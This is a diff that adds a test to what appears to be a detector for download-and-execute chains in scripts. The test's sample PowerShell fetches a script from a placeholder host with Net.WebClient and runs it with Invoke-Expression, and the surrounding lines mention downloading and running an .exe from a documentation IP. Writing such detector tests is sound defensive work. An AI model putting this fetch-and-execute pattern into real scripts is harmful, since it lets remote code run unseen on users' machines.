@@ -272,3 +272,17 @@ def test_a_bare_argument_joining_a_variable_and_a_path_names_the_file(tmp_path: 
         (1, "downloads http://198.51.100.8/h.exe"),
         (2, "runs h.exe, which it downloaded"),
     ]
+
+
+def test_arguments_handed_to_the_scripts_own_functions_are_followed_in(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "function Get-Payload([string]$u) { return (New-Object Net.WebClient).DownloadString($u) }\n"
+        "function Invoke-Run {\n  param($Code)\n  Invoke-Expression $Code\n}\n"
+        "$p = Get-Payload 'https://x.example.invalid/a.ps1'\n"
+        "Invoke-Run -Code $p\n",
+    )
+    assert chain(found, Kind.EXEC_FETCHED) == [
+        (1, "downloads https://x.example.invalid/a.ps1"),
+        (4, "runs what it downloaded (Invoke-Expression)"),
+    ]
